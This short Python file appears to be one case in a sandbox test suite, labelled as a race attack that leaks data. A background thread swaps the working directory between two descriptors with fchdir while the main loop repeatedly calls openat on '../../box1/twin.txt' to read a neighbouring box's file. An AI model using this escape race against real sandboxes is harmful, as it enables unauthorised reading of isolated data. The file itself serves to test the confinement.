# SPDX-License-Identifier: Apache-2.0
# attack: the same with fchdir, which needs no path
# class: race
# wins: leak
# needs: race
from kit import *

deep, high = openat(BOX + '/a/b', os.O_DIRECTORY), openat(BOX + '/a', os.O_DIRECTORY)
tried()


def move():
    sc('fchdir', deep)
    sc('fchdir', high)


end = loop_thread(move)
rounds(lambda i: took(sc('openat', AT_FDCWD, b'../../box1/twin.txt', 0, 0)))
end()
